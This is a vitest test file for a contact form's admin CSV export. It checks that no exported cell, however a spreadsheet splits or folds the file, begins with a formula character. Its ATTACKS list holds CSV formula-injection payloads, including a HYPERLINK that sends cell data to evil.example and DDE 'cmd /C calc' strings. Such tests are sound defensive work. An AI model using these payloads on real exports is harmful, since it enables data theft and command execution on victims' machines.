// CSV formula injection in semicolon locales: a contact name
// `Ann;=HYPERLINK(…);x` was exported unquoted, and Excel with `;` as its separator read a cell
// `=HYPERLINK(…)`. The export is read here as a spreadsheet reads it, with each separator a locale
// may use (comma, semicolon, tab), quotes taken leniently as Excel takes them: no cell may start
// with = + - @, a tab or a carriage return. Nor may it start with a look-alike of one that a
// spreadsheet or an import may fold into it (full-width `＝`, the minus sign `−`, a small `﹫`), and
// a `|` (or its full-width `｜`) separates cells too, as it does for an import told to split on it.
import { describe, expect, it } from 'vitest';
import { useTestServer, type TestServer } from '../support/test-server.ts';
import type { HttpClient } from '../support/http-client.ts';

let server: TestServer;
let admin: HttpClient;
useTestServer((started) => ({ server, admin } = started));

/**
 * The cells of a CSV as a spreadsheet with `separator` reads them: a cell that starts with a quote
 * runs to the closing quote (`""` is a quote), and whatever follows up to the next separator is
 * added as it is; a line break outside quotes ends the row.
 */
function spreadsheetCells(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < csv.length) {
    let cell = '';
    if (csv[at] === '"') {
      at += 1;
      while (at < csv.length && !(csv[at] === '"' && csv[at + 1] !== '"')) {
        cell += csv[at];
        at += csv[at] === '"' ? 2 : 1;
      }
      at += 1;
    }
    while (at < csv.length && csv[at] !== separator && csv[at] !== '\r' && csv[at] !== '\n') cell += csv[at++];
    cells.push(cell);
    at += csv.startsWith('\r\n', at) ? 2 : 1;
  }
  return cells;
}

const FORMULA_START = /^[=+\-@\t\r]/;
/** What a cell starts with once its look-alikes are folded: NFKC (full-width, small, super- and subscript forms) and the dashes and minus signs. */
const folded = (cell: string) => cell.trimStart().normalize('NFKC').replace(/^[\u2010-\u2015\u2212\u2796\uFE58]/, '-').replace(/^\u2795/, '+');
/** Each separator a spreadsheet may split on, and the file as it reads it: also with the separator's full-width form folded into it. */
const READINGS = [',', ';', '\t', '|'].flatMap((separator) => {
  const fullWidth = String.fromCharCode(separator.charCodeAt(0) + 0xfee0);
  return [
    { separator, fold: (csv: string) => csv },
    { separator, fold: (csv: string) => (separator === '\t' ? csv : csv.replaceAll(fullWidth, separator)) },
  ];
});
const ATTACKS = [
  'Ann;=HYPERLINK("http://evil.example/?x="&A1;"click");x',
  'Bo,=1+2',
  'Cy;""=cmd|\' /C calc\'!A0""',
  '=SUM(1;2)',
  '@SUM(A1)',
  '+1;-2',
  'Di; =1+1',
  '\uFF1DHYPERLINK("http://evil.example")',
  'Ed;\uFF0B1+1',
  '\uFE66SUM(1)',
  '\u2212 1+cmd',
  '\uFF20SUM(A1)',
  'Fi|=cmd|\' /C calc\'!A0',
  'Gu\uFF5C\uFF1D1',
  'Ha\uFF1B=1',
  '\u3000=1',
];

describe('the messages CSV', () => {
  it('starts no cell with a formula character, whatever separator the spreadsheet uses', async () => {
    for (const name of ATTACKS) expect((await server.client().post('/api/contact', { name, email: 'x@example.com', message: `About ${name}\n-5 or =A1;=B2\t@C3` })).status).toBe(200);
    const csv = (await admin.get('/api/admin/messages.csv')).text;
    for (const { separator, fold } of READINGS) {
      const dangerous = spreadsheetCells(fold(csv), separator).filter((cell) => FORMULA_START.test(folded(cell)));
      expect(dangerous, `read with "${separator}"`).toEqual([]);
    }
  });

  it('quotes every cell, so a comma reader gets each field whole', async () => {
    expect((await server.client().post('/api/contact', { name: 'Ann;=HYPERLINK("x")', email: 'ann@example.com', message: 'Hi' })).status).toBe(200);
    const [header, row] = (await admin.get('/api/admin/messages.csv')).text.split('\r\n');
    expect(header).toMatch(/^"Received \(Chicago time\)","Name","Email",/);
    expect(row).toContain(`,"Ann;'=HYPERLINK(""x"")","ann@example.com",`);
    expect(spreadsheetCells(row, ',')[1]).toBe(`Ann;'=HYPERLINK("x")`);
  });
});
